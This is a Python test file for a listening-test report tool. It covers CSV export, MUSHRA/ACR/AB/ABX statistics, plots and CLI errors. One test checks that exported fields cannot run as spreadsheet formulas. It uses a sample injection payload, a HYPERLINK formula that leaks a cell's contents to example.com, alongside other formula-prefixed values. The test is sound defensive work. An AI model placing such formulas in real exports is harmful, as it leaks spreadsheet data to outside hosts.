"""wavegen listen --report: the CSV export, the analysis, the table and the plot."""

from __future__ import annotations

import csv
import math
import subprocess
import sys

import pytest

from tests.support import assert_one_line, wavegen_cli
from wavegen.listen.report import analyse, format_report, mean_interval, plot_report
from wavegen.listen.store import AnswerStore, export_csv, read_csv


def test_the_csv_export_never_lets_a_spreadsheet_run_a_field(mushra, tmp_path):
    evil = '=HYPERLINK("http://example.com/?leak="&A1,"click")'
    store = AnswerStore(mushra.database)
    for participant in (evil, "+1", "@SUM(A1)", "-2+3", "plain"):
        store.answer(participant, mushra.trials[0]["name"], "k", "noisy", score=55)
    path = export_csv(store, tmp_path / "answers.csv", test=mushra.name, kind="mushra")
    with path.open(newline="") as f:
        cells = [row for row in csv.reader(f)][1:]
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    assert all(not cell.startswith(dangerous) for row in cells for cell in row)
    assert {row[2] for row in cells} == {"'" + evil, "'+1", "'@SUM(A1)", "'-2+3", "plain"}
    assert all(line.startswith('"') for line in path.read_text().splitlines())       # every field quoted
    assert {row["participant"] for row in read_csv(path)} == {evil, "+1", "@SUM(A1)", "-2+3", "plain"}


HAND_MADE = """test,type,participant,trial,system,score,choice,answered_at
t,mushra,A,1,reference,100,,
t,mushra,A,2,reference,95,,
t,mushra,A,3,reference,92,,
t,mushra,A,4,reference,100,,
t,mushra,A,1,sysX,50,,
t,mushra,A,2,sysX,60,,
t,mushra,A,3,sysX,70,,
t,mushra,A,4,sysX,80,,
t,mushra,B,1,reference,100,,
t,mushra,B,2,reference,80,,
t,mushra,B,3,reference,100,,
t,mushra,B,4,reference,100,,
t,mushra,B,1,sysX,0,,
t,mushra,B,2,sysX,0,,
t,mushra,B,3,sysX,0,,
t,mushra,B,4,sysX,0,,
t,mushra,C,1,reference,90,,
t,mushra,C,2,reference,100,,
t,mushra,C,3,reference,100,,
t,mushra,C,4,reference,100,,
t,mushra,C,1,sysX,40,,
t,mushra,C,2,sysX,50,,
t,mushra,C,3,sysX,60,,
t,mushra,C,4,sysX,70,,
t,acr,D,1,tts,4,,
t,acr,D,2,tts,5,,
t,acr,E,1,tts,3,,
t,acr,E,2,tts,4,,
"""


def test_the_report_on_a_hand_made_file(tmp_path):
    rows = HAND_MADE.splitlines()
    ab = [f"t,ab,P{i},{i},a vs b,,{'a' if i < 9 else 'b'}," for i in range(10)]
    abx = [f"t,abx,Q{i},{i},a vs c,{int(i < 7)},a," for i in range(10)]
    path = tmp_path / "answers.csv"
    path.write_text("\n".join(rows + ab + abx) + "\n")
    report = analyse(read_csv(path))
    # B rated the hidden reference below 90 in 1 of 4 trials (25 % > 15 %); C's 90 is not below 90.
    assert list(report.excluded) == ["B"] and "1 of 4 trials" in report.excluded["B"]
    scores = {(s["type"], s["system"]): s for s in report.scores}
    x = scores[("mushra", "sysX")]
    # A and C: 50 60 70 80 40 50 60 70 → mean 60, s = sqrt(1200 / 7), t(0.975, 7) = 2.364624
    half = 2.364624 * math.sqrt(1200 / 7) / math.sqrt(8)
    assert x["n"] == 8 and x["mean"] == pytest.approx(60) and x["low"] == pytest.approx(60 - half, abs=1e-4)
    assert x["high"] == pytest.approx(60 + half, abs=1e-4)
    ref = scores[("mushra", "reference")]
    assert ref["n"] == 8 and ref["mean"] == pytest.approx((387 + 390) / 8)
    tts = scores[("acr", "tts")]
    # 4 5 3 4 → MOS 4, s = sqrt(2/3), t(0.975, 3) = 3.182446
    assert tts["mean"] == pytest.approx(4) and tts["high"] - 4 == pytest.approx(3.182446 * math.sqrt(2 / 3) / 2,
                                                                                abs=1e-5)
    (pref,) = report.preferences
    # 9 of 10 chose a: two-sided exact p = 2 (1 + 10) / 1024; Clopper–Pearson [0.5550, 0.9975]
    assert (pref["first"], pref["n"], pref["first_count"]) == ("a", 10, 9)
    assert pref["p"] == pytest.approx(22 / 1024)
    assert pref["low"] == pytest.approx(0.5550, abs=1e-4) and pref["high"] == pytest.approx(0.9975, abs=1e-4)
    (told,) = report.identification
    # X identified in 7 of 10: one-sided p = (120 + 45 + 10 + 1) / 1024; Clopper–Pearson [0.3475, 0.9333]
    assert (told["n"], told["correct"]) == (10, 7) and told["p"] == pytest.approx(176 / 1024)
    assert told["low"] == pytest.approx(0.3475, abs=1e-4) and told["high"] == pytest.approx(0.9333, abs=1e-4)
    text = format_report(report)
    assert "excluded 'B'" in text and "sysX" in text and "0.0215" in text and "0.1719" in text
    from PIL import Image
    assert Image.open(plot_report(report, tmp_path / "report.png")).size[0] > 1000     # four panels


def test_mean_interval_of_one_value_has_no_bounds():
    mean, low, high = mean_interval([70.0])
    assert mean == 70 and math.isnan(low) and math.isnan(high)


def test_report_cli_writes_table_plot_and_csv(mushra, tmp_path):
    store = AnswerStore(mushra.database)
    for p, reference in (("p1", 100), ("p2", 85)):          # p2 fails post-screening in both trials
        for trial in mushra.trials:
            for s in trial["stimuli"]:
                score = {"reference": reference, "anchor-3.5kHz": 20, "noisy": 40, "enhanced": 60}[s["system"]]
                store.answer(p, trial["name"], s["key"], s["system"], score=score + (trial is mushra.trials[1]))
            store.complete(p, trial["name"])
    run = subprocess.run([sys.executable, "-m", "wavegen.cli", "listen", "--report", str(mushra.folder)],
                         capture_output=True, text=True)
    assert run.returncode == 0, run.stderr
    assert "excluded 'p2'" in run.stdout and "2 of 2 trials" in run.stdout
    enhanced = next(line for line in run.stdout.splitlines() if " enhanced " in line)
    assert enhanced.split()[2:4] == ["2", "60.5"]              # p1's 60 and 61
    for name in ("report.txt", "report.png", "answers-mushra.csv"):
        assert (mushra.folder / name).stat().st_size > 0


def _rate(store, test, participant, trial, score, *, only=None, complete=True):
    """``participant`` rates ``trial``'s stimuli (all, or those of the systems in ``only``) with ``score``."""
    for s in test.trials[trial]["stimuli"]:
        if only is None or s["system"] in only:
            store.answer(participant, test.trials[trial]["name"], s["key"], s["system"],
                         score=100 if s["system"] == "reference" else score)
    if complete:
        store.complete(participant, test.trials[trial]["name"])


def test_the_report_counts_only_completed_trials_and_says_how_many_it_left_out(mushra, tmp_path):
    from wavegen import listen
    store = AnswerStore(mushra.database)
    _rate(store, mushra, "p1", 0, 60)
    _rate(store, mushra, "p1", 1, 60)
    _rate(store, mushra, "p2", 0, 60)
    _rate(store, mushra, "p2", 1, 0, only={"enhanced", "noisy"}, complete=False)     # left half-done
    _rate(store, mushra, "p3", 0, 0, only={"enhanced"}, complete=False)              # never finished one
    text, _ = listen.write_report(mushra.folder)
    enhanced = next(line for line in text.splitlines() if " enhanced " in line)
    assert enhanced.split()[2:4] == ["3", "60.0"]
    assert text.splitlines()[0].startswith("2 participants") and "2 incomplete trials left out" in text
    again = format_report(analyse(read_csv(mushra.folder / "answers-mushra.csv")))   # the CSV says so too
    assert again == text


def test_no_completed_trial_is_nothing_to_report(mushra, tmp_path):
    from wavegen import listen
    from wavegen.errors import WavegenError
    _rate(AnswerStore(mushra.database), mushra, "p1", 0, 50, complete=False)
    with pytest.raises(WavegenError) as caught:
        listen.write_report(mushra.folder)
    assert_one_line(caught, "no completed trials", "1 incomplete trial")
    assert not (mushra.folder / "report.txt").exists()


def test_a_report_into_an_explicit_folder_never_replaces_a_file_without_overwrite(mushra, tmp_path):
    _rate(AnswerStore(mushra.database), mushra, "p1", 0, 50)
    out = tmp_path / "rep1"
    out.mkdir()
    (out / "report.txt").write_text("my notes")
    run = wavegen_cli("listen", "--report", str(mushra.folder), "-o", str(out), cwd=tmp_path)
    assert run.returncode == 1 and run.stderr.count("\n") == 1
    assert "report.txt already exists" in run.stderr and "--overwrite" in run.stderr
    assert (out / "report.txt").read_text() == "my notes" and sorted(p.name for p in out.iterdir()) == ["report.txt"]
    run = wavegen_cli("listen", "--report", str(mushra.folder), "-o", str(out), "--overwrite", cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    assert "enhanced" in (out / "report.txt").read_text() and (out / "report.png").exists()
    for _ in range(2):                  # in the results folder its own report is regenerated
        run = wavegen_cli("listen", "--report", str(mushra.folder), cwd=tmp_path)
        assert run.returncode == 0, run.stderr


def test_options_that_would_be_ignored_are_one_line_errors(samples, mushra, tmp_path):
    cases = [
        (["listen", str(samples), "--report", str(mushra.folder)], "one or the other"),
        (["listen", "--report", str(mushra.folder), "--gallery"], "one or the other"),
        (["listen", "--report", str(mushra.folder), "--type", "acr"], "--type"),
        (["listen", str(samples), "--gallery", "--port", "9000"], "--port"),
        (["listen", str(samples), "-o", str(tmp_path / "x")], "--out"),
        (["listen", str(samples), "--overwrite"], "--overwrite"),
    ]
    for args, needle in cases:
        run = wavegen_cli(*args, cwd=tmp_path)
        assert run.returncode == 1 and run.stderr.count("\n") == 1 and needle in run.stderr, (args, run.stderr)
    assert not (tmp_path / "x").exists() and not (mushra.folder / "report.txt").exists()
